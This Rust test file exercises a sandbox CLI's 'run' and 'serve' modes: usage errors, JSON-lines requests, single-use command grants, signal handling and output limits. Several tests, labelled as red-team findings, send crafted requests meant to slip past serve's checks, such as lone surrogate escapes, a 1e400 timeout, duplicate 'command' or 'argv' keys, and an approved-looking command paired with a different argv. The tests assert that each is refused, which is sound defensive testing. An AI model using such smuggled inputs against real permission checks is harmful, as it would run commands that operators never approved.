    let profile = format!(
        r#"{{"workspace_root": "{}", "workspace_read": "allow", "workspace_write": "allow", "host_read": "allow", "command": "allow"}}"#,
        area.ws.display()
    );
    let o = Command::new("bash")
        .arg("-c")
        .arg(format!("{SANDBOX} run --profile <(printf '%s' \"$P\") -- /bin/echo via-pipe"))
        .env("P", &profile)
        .current_dir(&area.ws)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&o.stdout), "via-pipe\n", "{}", String::from_utf8_lossy(&o.stderr));

    if nix::unistd::geteuid().is_root() {
        let parent = format!("sbx-cli-early-{}", std::process::id());
        for (args, says) in [
            (vec!["run", "--cgroup-parent", &parent, "--", ""], "argv: empty program"),
            (vec!["run", "--cgroup-parent", &parent, "--cwd", "/proc", "--", "/bin/true"], "--cwd: /proc"),
        ] {
            let o = Command::new(SANDBOX).args(&args).current_dir(&area.ws).output().unwrap();
            assert_eq!(o.status.code(), Some(125), "{args:?}");
            assert!(
                String::from_utf8_lossy(&o.stderr).contains(says),
                "{args:?}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            let made: Vec<_> = fs::read_dir("/sys/fs/cgroup")
                .unwrap()
                .flatten()
                .map(|c| c.path().join(&parent))
                .chain([std::path::PathBuf::from("/sys/fs/cgroup").join(&parent)])
                .filter(|p| p.exists())
                .collect();
            assert!(made.is_empty(), "{args:?} made {made:?}");
        }
    }

    // Usage errors: exit 2, clap's text naming the flag on stderr, nothing on stdout, with or
    // without `--json` (a command line not understood did not ask for JSON either).
    for (args, flag) in [
        (vec!["run", "--json", "--timeout", "-1", "--", "/bin/true"], "'--timeout <SECONDS>'"),
        (vec!["run", "--output-limit", "-1", "--", "/bin/true"], "'--output-limit <N>'"),
        (vec!["run", "--json", "--output-limit", "-1", "--", "/bin/true"], "'--output-limit <N>'"),
        (vec!["run", "--json", "--frob", "--", "/bin/true"], "'--frob'"),
        (vec!["run", "--json", "--"], "<ARGV>"),
    ] {
        let o = Command::new(SANDBOX).args(&args).current_dir(&area.ws).output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert!(o.stdout.is_empty(), "{args:?}: {}", String::from_utf8_lossy(&o.stdout));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains(flag), "{args:?}: {err}");
    }

    let mut serve = Command::new(SANDBOX)
        .arg("serve")
        .current_dir(&area.ws)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    {
        let mut stdin = serve.stdin.take().unwrap();
        std::io::Write::write_all(&mut stdin, b"{\"id\":1,\"argv\":[\"/bin/pwd\"],\"cwd\":\"\"}\n").unwrap();
    }
    let o = serve.wait_with_output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["error"], "invalid_argument", "{v}");
    assert!(v["message"].as_str().unwrap().contains("cwd: empty"), "{v}");
}

/// Every flag value that is not UTF-8 is a usage error naming its flag (clap's own text named
/// none), and a scratch root or bundle directory where nothing can be made is refused naming
/// `--scratch` or `--out` (the library's field names follow). Nothing is spawned or written;
/// the controls beside them run.
#[test]
fn every_bad_flag_value_names_its_flag() {
    use std::ffi::OsString;
    use std::os::unix::ffi::OsStringExt as _;
    let area = Area::new();
    let before = area.snapshot();
    let bad = || OsString::from_vec(vec![b'x', 0xff]);
    let os = OsString::from;
    let mut cases: Vec<(Vec<OsString>, &str)> = Vec::new();
    for flag in ["--timeout", "--output-limit", "--cpus", "--cpu-weight", "--resolve", "--allow-target"] {
        cases.push((vec![os("run"), os(flag), bad(), os("--"), os("/bin/true")], flag));
        let mut joined = OsString::from(format!("{flag}="));
        joined.push(bad());
        cases.push((vec![os("run"), os("--json"), joined, os("--"), os("/bin/true")], flag));
    }
    for flag in ["--max-executors", "--cpus", "--cpu-weight", "--resolve", "--allow-target"] {
        cases.push((vec![os("serve"), os(flag), bad()], flag));
    }
    for (args, flag) in &cases {
        let o = Command::new(SANDBOX).args(args).current_dir(&area.ws).stdin(Stdio::null()).output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {err}");
        assert!(o.stdout.is_empty(), "{args:?}");
        assert!(err.contains(&format!("'{flag} <")) && err.contains("UTF-8"), "{args:?}: {err}");
    }

    let out = area.dir.path().join("never");
    for (args, says) in [
        (vec!["run", "--scratch", "/proc", "--", "/bin/true"], "--scratch (scratch_root): creating /proc/"),
        (vec!["run", "--scratch", "/nonexistent-scratch", "--", "/bin/true"], "--scratch (scratch_root): /nonexistent"),
        (vec!["bundle", "export", "--out", "/proc/never", "--", "/bin/true"], "--out (out_dir): creating /proc/never"),
        (vec!["bundle", "export", "--out", "/etc/hostname", "--", "/bin/true"], "--out (out_dir): /etc/hostname"),
    ] {
        let o = Command::new(SANDBOX).args(&args).current_dir(&area.ws).output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(125), "{args:?}: {err}");
        assert!(err.contains(says), "{args:?}: {err}");
    }
    assert_eq!(area.snapshot(), before, "nothing written");

    // Controls: the same flags with good values.
    let o = Command::new(SANDBOX)
        .args(["bundle", "export", "--out"])
        .arg(&out)
        .args(["--", "/bin/true"])
        .current_dir(&area.ws)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(out.join("config.json").is_file());
    if sandbox_runs_here("every_bad_flag_value_names_its_flag") {
        let o = Command::new(SANDBOX)
            .args(["run", "--timeout", "20", "--output-limit", "100", "--cpu-weight", "20", "--scratch"])
            .arg(&area.scratch)
            .args(["--", "/bin/echo", "ran"])
            .current_dir(&area.ws)
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&o.stdout), "ran\n", "{}", String::from_utf8_lossy(&o.stderr));
        assert_eq!(o.status.code(), Some(0));
    }
}

/// Issue 15, item 4: a `--json` error object carries the human message next to the kind, and
/// the message names the offending key (here an unknown key of the profile file).
#[test]
fn json_errors_carry_their_message() {
    let area = Area::new();
    let profile = area.dir.path().join("bad.json");
    fs::write(&profile, r#"{"workspace_root": "/", "frob": 1}"#).unwrap();
    let o = area.sandbox(&refs(&[
        os("run"),
        os("--json"),
        os("--profile"),
        profile.into_os_string(),
        os("--"),
        os("/bin/true"),
    ]));
    assert_eq!(o.status.code(), Some(125), "{}", String::from_utf8_lossy(&o.stderr));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["error"], "invalid_profile");
    let message = v["message"].as_str().unwrap_or_default();
    assert!(message.starts_with("invalid profile: frob: unknown key"), "{v}");
}

/// stdout for a child: `/dev/full`, where every write fails with ENOSPC.
fn dev_full() -> std::process::Stdio {
    std::process::Stdio::from(fs::OpenOptions::new().write(true).open("/dev/full").unwrap())
}

/// A final result that cannot be written (stdout on `/dev/full`) is a sandbox error: exit 125
/// and `sandbox: writing …` on stderr, never a silent 0 (probe, bundle export, `run --json`'s
/// error object).
#[test]
fn results_that_cannot_be_written_exit_125_with_a_message() {
    let area = Area::new();
    let bad = area.dir.path().join("bad.json");
    fs::write(&bad, r#"{"workspace_root": "/", "frob": 1}"#).unwrap();
    let out = area.dir.path().join("bundle");
    let cases: [(Vec<std::ffi::OsString>, &str); 4] = [
        (vec![os("probe")], "sandbox: writing the probe: "),
        (vec![os("probe"), os("--text")], "sandbox: writing the probe: "),
        (
            vec![os("bundle"), os("export"), os("--out"), out.clone().into_os_string(), os("--"), os("/bin/true")],
            "sandbox: writing the bundle's path",
        ),
        (
            vec![os("run"), os("--json"), os("--profile"), bad.into_os_string(), os("--"), os("/bin/true")],
            "sandbox: writing the result: ",
        ),
    ];
    for (args, message) in cases {
        let o = Command::new(SANDBOX).current_dir(&area.ws).args(&args).stdout(dev_full()).output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(125), "{args:?}: {err}");
        assert!(err.starts_with(message) && err.contains("No space left on device"), "{args:?}: {err}");
    }
}

/// When the reader of `sandbox run`'s stdout or stderr goes away (`| head -1`), the run ends
/// at once with 141, as a pipeline's producer dies of SIGPIPE, instead of draining the workload
/// into failing writes for ever; a workload's output lost to a full disk, a `--json` object or
/// a serve answer that cannot be written, are errors (125, a message on stderr).
#[test]
fn a_reader_gone_or_a_full_disk_ends_the_run() {
    use std::io::Read;
    if !sandbox_runs_here("a_reader_gone_or_a_full_disk_ends_the_run") {
        return;
    }
    let area = Area::new();
    let scratch = area.scratch.clone().into_os_string();
    for (script, on_stderr) in [("exec yes", false), ("exec yes >&2", true)] {
        let mut cmd = Command::new(SANDBOX);
        cmd.current_dir(&area.ws).args([os("run"), os("--scratch"), scratch.clone(), os("--")]);
        cmd.args(["/bin/sh", "-c", script]);
        let piped = || std::process::Stdio::piped();
        let mut child = if on_stderr {
            cmd.stdout(std::process::Stdio::null()).stderr(piped()).spawn().unwrap()
        } else {
            cmd.stdout(piped()).stderr(piped()).spawn().unwrap()
        };
        let mut reader: Box<dyn Read> =
            if on_stderr { Box::new(child.stderr.take().unwrap()) } else { Box::new(child.stdout.take().unwrap()) };
        let mut line = [0u8; 2];
        reader.read_exact(&mut line).unwrap();
        assert_eq!(&line, b"y\n");
        drop(reader);
        let start = std::time::Instant::now();
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            assert!(start.elapsed() < std::time::Duration::from_secs(20), "{script}: the run goes on");
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        assert_eq!(status.code(), Some(141), "{script}");
    }
    // The workload's output lost to a full disk: the tree ends, 125, a message.
    let o = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args([os("run"), os("--scratch"), scratch.clone(), os("--"), os("/bin/echo"), os("hi")])
        .stdout(dev_full())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(err.starts_with("sandbox: writing the workload's stdout: No space left on device"), "{err}");
    // The one `--json` object cannot be written.
    let o = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args([os("run"), os("--json"), os("--scratch"), scratch.clone(), os("--"), os("/bin/echo"), os("hi")])
        .stdout(dev_full())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with("sandbox: writing the result: No space left on device"), "{err}");
    // serve: an answer that cannot be written ends serve (its runs with it).
    let mut child = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args([os("serve"), os("--scratch"), scratch])
        .stdin(std::process::Stdio::piped())
        .stdout(dev_full())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    std::io::Write::write_all(&mut stdin, b"{\"id\": 1, \"argv\": [\"/bin/true\"]}\n").unwrap();
    let o = child.wait_with_output().unwrap();
    drop(stdin);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(err.contains("sandbox: serve: writing an answer: No space left on device"), "{err}");
}

/// Processes on the host whose command line has `arg` as one of its arguments.
fn processes_with_arg(arg: &str) -> usize {
    fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| fs::read(e.path().join("cmdline")).ok())
        .filter(|c| c.split(|b| *b == 0).any(|a| a == arg.as_bytes()))
        .count()
}

/// `sandbox serve` in the area's workspace with its scratch root (and `extra` arguments first):
/// the child, its stdin and its answers' lines.
fn spawn_serve(
    area: &Area,
    extra: &[std::ffi::OsString],
) -> (std::process::Child, std::process::ChildStdin, std::io::Lines<std::io::BufReader<std::process::ChildStdout>>) {
    use std::io::BufRead;
    let mut child = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .arg("serve")
        .args(extra)
        .args([os("--scratch"), area.scratch.clone().into_os_string()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let stdin = child.stdin.take().unwrap();
    let lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    (child, stdin, lines)
}

/// `sandbox serve` (issue 16): JSON lines in, one answer per request with its id, answered as
/// they finish (a fast request overtakes a slow one sent before it), `run --json`'s object, bad
/// lines answered with a message naming the key, a grant issued and used, and nothing written
/// outside the workspace and scratch root.
#[test]
fn serve_answers_each_request_by_id_as_it_finishes() {
    use std::io::Write;
    if !sandbox_runs_here("serve_answers_each_request_by_id_as_it_finishes") {
        return;
    }
    let area = Area::new();
    let (mut child, mut stdin, mut lines) = spawn_serve(&area, &[]);
    let mut ask = |line: &str| writeln!(stdin, "{line}").unwrap();
    ask(r#"{"id": "slow", "command": "sleep 1; echo slow"}"#);
    ask(r#"{"id": 2, "argv": ["/bin/cat", "keep.txt"]}"#);
    ask(r#"{"id": [3], "argv": ["/bin/true"], "frob": 1}"#);
    ask(r#"{"id": 4, "command": "echo x > made.txt; exit 3", "executor": "other"}"#);
    ask("not json");
    let mut next = || -> serde_json::Value { serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap() };
    let mut got = std::collections::BTreeMap::new();
    let mut order = Vec::new();
    for _ in 0..5 {
        let v = next();
        order.push(v["id"].to_string());
        got.insert(v["id"].to_string(), v);
    }
    assert_eq!(order.last().map(String::as_str), Some("\"slow\""), "the slow request is answered last: {order:?}");
    let two = &got["2"];
    assert_eq!((two["exit_code"].as_i64(), two["stdout"].as_str()), (Some(0), Some("mine\n")), "{two}");
    assert_eq!(two["level"], "full");
    assert!(two["guarantees"].as_array().unwrap().iter().any(|g| g == "network-boundary"), "{two}");
    let three = &got["[3]"];
    assert_eq!(three["error"], "invalid_argument", "{three}");
    assert!(three["message"].as_str().unwrap().contains("unknown key \"frob\""), "{three}");
    assert_eq!(got["4"]["exit_code"].as_i64(), Some(3));
    assert_eq!(fs::read_to_string(area.ws.join("made.txt")).unwrap(), "x\n");
    assert!(got["null"]["message"].as_str().unwrap().contains("not JSON"), "{:?}", got["null"]);
    assert_eq!(got["\"slow\""]["stdout"], "slow\n");
    // A gated command: refused without a grant, run with one issued through serve.
    drop(lines);
    drop(stdin);
    assert!(child.wait().unwrap().success());
    let profile = area.dir.path().join("gated.json");
    fs::write(
        &profile,
        format!(r#"{{"workspace_root": "{}", "workspace_read": "allow", "command": "gated"}}"#, area.ws.display()),
    )
    .unwrap();
    let (mut child, mut stdin, mut lines) = spawn_serve(&area, &[os("--profile"), profile.into_os_string()]);
    let mut roundtrip = |line: &[u8]| -> serde_json::Value {
        stdin.write_all(line).unwrap();
        stdin.write_all(b"\n").unwrap();
        serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap()
    };
    let refused = roundtrip(br#"{"id": 1, "command": "echo granted"}"#);
    assert_eq!(refused["error"], "grant_required", "{refused}");
    let cwd = area.ws.display().to_string();
    let grant = roundtrip(
        format!(
            r#"{{"id": 2, "op": "grant", "kind": "command.execute", "class": "command.start.v1", "target": "echo granted", "command": "echo granted", "cwd": "{cwd}"}}"#
        )
        .as_bytes(),
    );
    let token = grant["token"].as_str().unwrap_or_else(|| panic!("{grant}")).to_owned();
    let ran = roundtrip(format!(r#"{{"id": 3, "command": "echo granted", "grants": ["{token}"]}}"#).as_bytes());
    assert_eq!((ran["exit_code"].as_i64(), ran["stdout"].as_str()), (Some(0), Some("granted\n")), "{ran}");
    let again = roundtrip(format!(r#"{{"id": 4, "command": "echo granted", "grants": ["{token}"]}}"#).as_bytes());
    assert!(again["error"].as_str().is_some_and(|e| e.starts_with("grant_")), "single use: {again}");
    // A line that is not UTF-8 is answered, and the session goes on.
    let bad = roundtrip(b"{\"id\": \"\xff\"}");
    assert_eq!(bad["message"], "invalid argument: request: not UTF-8", "{bad}");
    // An oversized line (over 16 MiB) is answered and skipped; the session goes on.
    let mut huge = br#"{"id": 9, "command": ""#.to_vec();
    huge.resize(huge.len() + (17 << 20), b'x');
    huge.extend_from_slice(br#""}"#);
    let big = roundtrip(&huge);
    assert_eq!(big["message"], "invalid argument: request: longer than 16777216 bytes", "{}", big["message"]);
    let after = roundtrip(br#"{"id": 5, "argv": ["/bin/true"], "executor": "x"}"#);
    assert_eq!(after["error"], "grant_required", "{after}");
    drop(stdin);
    assert!(child.wait().unwrap().success());
    for d in fs::read_dir(&area.scratch).unwrap().flatten() {
        assert_eq!(fs::read_dir(d.path()).map(Iterator::count).unwrap_or(0), 0, "left in the scratch root: {d:?}");
    }
}

/// serve's answers begin with the request's id exactly as it was sent (no re-encoding of
/// numbers); a repeated key is refused naming it (nothing runs); every line gets one answer,
/// a blank one included; a bad grant request is answered in the grant's shape.
#[test]
fn serve_echoes_ids_first_refuses_repeated_keys_and_answers_every_line() {
    use std::io::Write;
    if !sandbox_runs_here("serve_echoes_ids_first_refuses_repeated_keys_and_answers_every_line") {
        return;
    }
    let area = Area::new();
    let (mut child, mut stdin, lines) = spawn_serve(&area, &[]);
    let requests = [
        r#"{"id": 1e2, "argv": ["/bin/echo", "hi"]}"#,
        r#"{"id": 123456789012345678901234567890, "argv": ["/bin/true"]}"#,
        r#"{"id": -0, "command": "touch first", "command": "touch second"}"#,
        r#"{"id": {"k": [1, 2.50]}, "argv": ["/bin/true"], "argv": ["/usr/bin/touch", "third"]}"#,
        "",
        "   \t",
        r#"{"id": "g1", "op": "grant", "class": "command.start.v1", "target": "x"}"#,
        r#"{"id": "g2", "op": "grant", "kind": "command.execute", "class": "c", "target": "t", "frob": 1}"#,
    ];
    for r in requests {
        writeln!(stdin, "{r}").unwrap();
    }
    drop(stdin);
    let answers: Vec<String> = lines.map(Result::unwrap).collect();
    assert!(child.wait().unwrap().success());
    assert_eq!(answers.len(), requests.len(), "one answer per line: {answers:#?}");
    let find = |prefix: &str| -> serde_json::Value {
        let line = answers.iter().find(|l| l.starts_with(prefix)).unwrap_or_else(|| panic!("{prefix}: {answers:#?}"));
        serde_json::from_str(line).unwrap()
    };
    assert_eq!(find(r#"{"id":1e2,"denials":[]"#)["stdout"], "hi\n");
    assert_eq!(find(r#"{"id":123456789012345678901234567890,"#)["exit_code"], 0);
    for (prefix, key) in [(r#"{"id":-0,"#, "command"), (r#"{"id":{"k":[1,2.50]},"#, "argv")] {
        let v = find(prefix);
        assert_eq!(v["error"], "invalid_argument", "{v}");
        assert_eq!(v["message"], format!("invalid argument: request: {key}: duplicate key"), "{v}");
    }
    let blank: Vec<_> = answers.iter().filter(|l| l.starts_with(r#"{"id":null,"#)).collect();
    assert_eq!(blank.len(), 2, "{answers:#?}");
    assert!(blank.iter().all(|l| l.contains("blank line")), "{blank:?}");
    for (id, names) in [("g1", "kind: required"), ("g2", "unknown key \"frob\"")] {
        let prefix = format!(r#"{{"id":"{id}","token":null,"error":"invalid_argument","message":"#);
        let v = find(&prefix);
        assert_eq!(v.as_object().unwrap().len(), 4, "the grant's shape: {v}");
        assert!(v["message"].as_str().unwrap().contains(names), "{v}");
    }
    for made in ["first", "second", "third"] {
        assert!(!area.ws.join(made).exists(), "a refused request ran: {made}");
    }
}

/// Red team F5 and F4: a value that passes serve's raw check but no JSON value can hold (a lone
/// surrogate escape, a number beyond f64) is refused naming its key and nothing runs (before it
/// became null: the argv beside a "\ud800" command ran, a "\udc00" cwd ran in serve's directory,
/// `"timeout": 1e400` ran unbounded); an id with raw CR, tab and newline-free whitespace between
/// its tokens is echoed without it, so every answer is one line for readers that split on CR.
/// Positive control: a plain request in the same session runs.
#[test]
fn serve_refuses_undecodable_values_and_answers_each_on_one_line() {
    use std::io::{Read, Write};
    if !sandbox_runs_here("serve_refuses_undecodable_values_and_answers_each_on_one_line") {
        return;
    }
    let area = Area::new();
    let mut child = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args([os("serve"), os("--scratch"), area.scratch.clone().into_os_string()])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let requests: [&[u8]; 6] = [
        br#"{"id":1,"command":"touch approved \ud800","argv":["/usr/bin/touch","ran-argv"]}"#,
        br#"{"id":2,"argv":["/usr/bin/touch","ran-cwd"],"cwd":"/nonexistent/\udc00"}"#,
        br#"{"id":3,"argv":["/usr/bin/touch","ran-timeout"],"timeout":1e400}"#,
        br#"{"id":4,"argv":["/usr/bin/touch","ran-argv-item","\udfff"]}"#,
        b"{\"id\":{\"tag\":\r\"x\" ,\t\"n\":[1,\r2.50]},\"argv\":[\"/bin/echo\",\"first\"]}",
        br#"{"id":6,"argv":["/bin/echo","control"]}"#,
    ];
    for r in requests {
        stdin.write_all(r).unwrap();
        stdin.write_all(b"\n").unwrap();
    }
    drop(stdin);
    let mut raw = Vec::new();
    child.stdout.take().unwrap().read_to_end(&mut raw).unwrap();
    assert!(child.wait().unwrap().success());
    assert!(!raw.contains(&b'\r'), "a raw CR in the answers: {}", String::from_utf8_lossy(&raw));
    let text = String::from_utf8(raw).unwrap();
    let answers: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(answers.len(), requests.len(), "one answer per line: {text}");
    let by_id =
        |id: serde_json::Value| answers.iter().find(|a| a["id"] == id).unwrap_or_else(|| panic!("{id}: {text}"));
    for (id, key) in [(1, "command"), (2, "cwd"), (3, "timeout"), (4, "argv")] {
        let v = by_id(serde_json::json!(id));
        assert_eq!(v["error"], "invalid_argument", "{v}");
        let message = v["message"].as_str().unwrap();
        assert!(message.starts_with(&format!("invalid argument: request: {key}: ")), "{v}");
    }
    assert!(text.lines().any(|l| l.starts_with(r#"{"id":{"tag":"x","n":[1,2.50]},"#)), "{text}");
    assert_eq!(by_id(serde_json::json!({"tag": "x", "n": [1, 2.5]}))["stdout"], "first\n");
    assert_eq!(by_id(serde_json::json!(6))["stdout"], "control\n");
    for made in ["ran-argv", "ran-cwd", "ran-timeout", "ran-argv-item", "approved"] {
        assert!(!area.ws.join(made).exists(), "a refused request ran: {made}");
    }
}

/// SIGINT and SIGHUP end serve and its runs the way SIGTERM does, even when serve's parent
/// left them ignored (a script's background job, `nohup`): before, serve and its run kept going
/// after either. The signal is sent while a run is in flight; both are gone within 10 s.
#[test]
fn serve_ends_with_its_runs_on_sigint_and_sighup_even_when_they_were_ignored() {
    use std::io::Write;
    if !sandbox_runs_here("serve_ends_with_its_runs_on_sigint_and_sighup_even_when_they_were_ignored") {
        return;
    }
    let area = Area::new();
    for (n, signal) in [(1, nix::sys::signal::Signal::SIGINT), (2, nix::sys::signal::Signal::SIGHUP)] {
        let marker = format!("62.{n}{}", std::process::id());
        let mut child = Command::new("/bin/sh")
            .current_dir(&area.ws)
            .args(["-c", &format!("trap '' INT HUP; exec {SANDBOX} serve --scratch {}", area.scratch.display())])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        writeln!(stdin, r#"{{"id": 1, "argv": ["sleep", "{marker}"]}}"#).unwrap();
        let start = std::time::Instant::now();
        while processes_with_arg(&marker) == 0 {
            assert!(start.elapsed() < std::time::Duration::from_secs(20), "the run never started");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap());
        nix::sys::signal::kill(pid, signal).unwrap();
        let start = std::time::Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            if start.elapsed() > std::time::Duration::from_secs(10) {
                let _ = child.kill();
                let _ = child.wait();
                panic!("serve kept running after {signal}");
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        assert!(!status.success(), "{signal}: {status:?}");
        while processes_with_arg(&marker) > 0 {
            assert!(start.elapsed() < std::time::Duration::from_secs(10), "the run outlived serve after {signal}");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        drop(stdin);
    }
}

/// Red team F6: with an output limit N, the JSON answer stays within a small multiple of N even
/// for the worst bytes (NULs, escaped as `\u0000`: 6 bytes each) on both streams, through serve
/// and `run --json`, at the limit and beyond it (then `output_limit`). Without a limit nothing
/// bounds it (README, "Decisions").
#[test]
fn json_answers_stay_within_a_small_multiple_of_the_output_limit() {
    use std::io::Write;
    if !sandbox_runs_here("json_answers_stay_within_a_small_multiple_of_the_output_limit") {
        return;
    }
    let area = Area::new();
    let n: usize = 200_000;
    let bound = 12 * n + (256 << 10);
    let both = |bytes: usize| format!("head -c {bytes} /dev/zero; head -c {bytes} /dev/zero >&2");
    let (mut child, mut stdin, mut lines) = spawn_serve(&area, &[]);
    for (id, bytes, error) in [(1, n, serde_json::Value::Null), (2, 4 * n, serde_json::json!("output_limit"))] {
        writeln!(stdin, r#"{{"id": {id}, "command": "{}", "output_limit": {n}}}"#, both(bytes)).unwrap();
        let line = lines.next().unwrap().unwrap();
        let v: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_eq!(v["error"], error, "{}", v["message"]);
        assert_eq!(v["stdout"].as_str().unwrap().len(), n, "kept at most the limit");
        assert!(line.len() <= bound, "answer {id}: {} bytes for a limit of {n}", line.len());
        if id == 1 {
            assert!(line.len() >= 12 * n, "both streams' NULs escaped: {} bytes", line.len());
        }
    }
    drop(stdin);
    assert!(child.wait().unwrap().success());
    let o = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .args(["run", "--json", "--output-limit", &n.to_string(), "--scratch"])
        .arg(&area.scratch)
        .args(["--", "/bin/sh", "-c", &both(4 * n)])
        .output()
        .unwrap();
    assert!(o.stdout.len() <= bound, "run --json: {} bytes for a limit of {n}", o.stdout.len());
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["error"], "output_limit");
}

/// When serve's parent dies, everything serve started ends: serve exits, and its helpers kill
/// the run in flight (issue 16). When stdin closes instead, work in flight finishes (a grace of
/// 5 s), and what is still running then is killed and answered.
#[test]
fn serve_ends_everything_with_its_parent_and_finishes_in_flight_work_at_eof() {
    use std::io::Write;
    if !sandbox_runs_here("serve_ends_everything_with_its_parent_and_finishes_in_flight_work_at_eof") {
        return;
    }
    let area = Area::new();
    let marker = format!("61.{}", std::process::id());
    // The parent: a shell that starts serve in the background and waits; SIGKILLed below.
    // (A background job's stdin is /dev/null before its redirections: stdin goes through fd 3.)
    let mut parent = Command::new("/bin/sh")
        .current_dir(&area.ws)
        .args(["-c", &format!("exec 3<&0; {SANDBOX} serve --scratch {} <&3 3<&- & wait", area.scratch.display())])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = parent.stdin.take().unwrap();
    writeln!(stdin, r#"{{"id": 1, "argv": ["sleep", "{marker}"]}}"#).unwrap();
    let start = std::time::Instant::now();
    while processes_with_arg(&marker) == 0 {
        assert!(start.elapsed() < std::time::Duration::from_secs(20), "the run never started");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    parent.kill().unwrap();
    let _ = parent.wait();
    let start = std::time::Instant::now();
    while processes_with_arg(&marker) > 0 {
        assert!(start.elapsed() < std::time::Duration::from_secs(10), "the run outlived serve's parent");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    drop(stdin);

    // stdin closed: the short request finishes; the endless one is killed after the grace.
    let (mut child, mut stdin, lines) = spawn_serve(&area, &[]);
    writeln!(stdin, r#"{{"id": "short", "command": "sleep 0.5; echo done"}}"#).unwrap();
    writeln!(stdin, r#"{{"id": "endless", "argv": ["sleep", "{marker}"]}}"#).unwrap();
    drop(stdin);
    let start = std::time::Instant::now();
    let answers: Vec<serde_json::Value> = lines.map(|l| serde_json::from_str(&l.unwrap()).unwrap()).collect();
    assert!(child.wait().unwrap().success());
    assert!(start.elapsed() < std::time::Duration::from_secs(15), "took {:?}", start.elapsed());
    let by_id = |id: &str| answers.iter().find(|a| a["id"] == id).cloned().unwrap_or_else(|| panic!("{answers:?}"));
    assert_eq!(by_id("short")["stdout"], "done\n");
    assert!(by_id("endless")["error"].as_str().is_some(), "{:?}", by_id("endless"));
    assert_eq!(processes_with_arg(&marker), 0, "the endless run outlived serve");

    // More requests than may be in flight (64), then stdin closed: serve, waiting for a place,
    // still sees the close (red team AS: it read no further, so the grace never began and the
    // runs went on to their end). What did not start is answered `executor_set_closed`, the
    // rest are killed after the grace; every request is answered once.
    let (mut child, mut stdin, lines) = spawn_serve(&area, &[]);
    for i in 0..70 {
        writeln!(stdin, r#"{{"id": {i}, "argv": ["sleep", "{marker}"]}}"#).unwrap();
    }
    drop(stdin);
    let start = std::time::Instant::now();
    let answers: Vec<serde_json::Value> = lines.map(|l| serde_json::from_str(&l.unwrap()).unwrap()).collect();
    assert!(child.wait().unwrap().success());
    assert!(start.elapsed() < std::time::Duration::from_secs(30), "took {:?}", start.elapsed());
    assert_eq!(answers.len(), 70, "{answers:?}");
    let count = |e: &str| answers.iter().filter(|a| a["error"] == e).count();
    assert_eq!(count("executor_set_closed") + count("executor_closed"), 70, "{answers:?}");
    assert!(count("executor_set_closed") >= 6, "{answers:?}");
    assert_eq!(processes_with_arg(&marker), 0, "a run outlived serve");
}

/// Without `--scratch` (issue 16): the run's HOME and TMPDIR live in `/dev/shm/sandbox-cli-<uid>`
/// when `/dev/shm` is a tmpfs and `TMPDIR` is unset, in `$TMPDIR/sandbox-cli-<uid>` when
/// `TMPDIR` is set; either way the run's own directory is gone afterwards.
#[test]
fn the_default_scratch_root_is_in_ram_unless_tmpdir_says_otherwise() {
    if !sandbox_runs_here("the_default_scratch_root_is_in_ram_unless_tmpdir_says_otherwise") {
        return;
    }
    let area = Area::new();
    let uid = nix::unistd::geteuid();
    let home_of = |tmpdir: Option<&std::path::Path>| {
        let mut cmd = Command::new(SANDBOX);
